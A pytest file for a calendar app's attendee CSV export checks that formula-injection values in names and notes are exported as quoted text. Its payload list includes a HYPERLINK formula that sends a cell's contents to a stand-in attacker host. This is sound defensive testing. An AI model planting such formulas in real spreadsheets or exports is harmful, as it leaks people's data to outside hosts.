"""The attendee list opens in a spreadsheet as text: nothing people typed runs as a formula."""

import csv
import io

import pytest

from nscal.accounts.models import AccountRole
from nscal.db import db
from nscal.exports import rows_as_csv, spreadsheet_safe
from nscal.registrations.services import register_for_event

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # spreadsheets trim the spaces before they look
    "＝1+1",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_dangerous_name_or_note_is_text_in_the_export(client, auth, make_user, make_event, value):
    event = make_event("Kick-off")
    person = make_user("aino@example.org", name=value)
    registration = register_for_event(event.id, person.id, note=value)
    db.session.commit()
    make_user("coord@example.org", account_role=AccountRole.coordinator)
    auth.login("coord@example.org")

    response = client.get(f"/manage/events/{event.id}/registrations.csv")
    [row] = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert row["email"] == "aino@example.org"
    # What was stored (names and notes may be tidied on the way in), behind a quote.
    assert row["name"] == "'" + person.name
    assert row["note"] == "'" + registration.note
    # Every cell is quoted (RFC 4180), so separators inside a value stay in its cell.
    assert response.text.startswith('"email","name",')


@pytest.mark.parametrize(
    "value", ["Aino Virtanen", "Wheelchair access; vegetarian", "", "2027-01-13T10:00:00+01:00"]
)
def test_ordinary_text_is_written_as_it_is(value):
    assert spreadsheet_safe(value) == value


def test_numbers_stay_numbers_and_quotes_are_doubled():
    text = rows_as_csv(["n", "x", "text"], [[-3, 2.5, 'say "hi", then go']])
    assert text == '"n","x","text"\r\n"-3","2.5","say ""hi"", then go"\r\n'
    assert list(csv.reader(io.StringIO(text)))[1] == ["-3", "2.5", 'say "hi", then go']
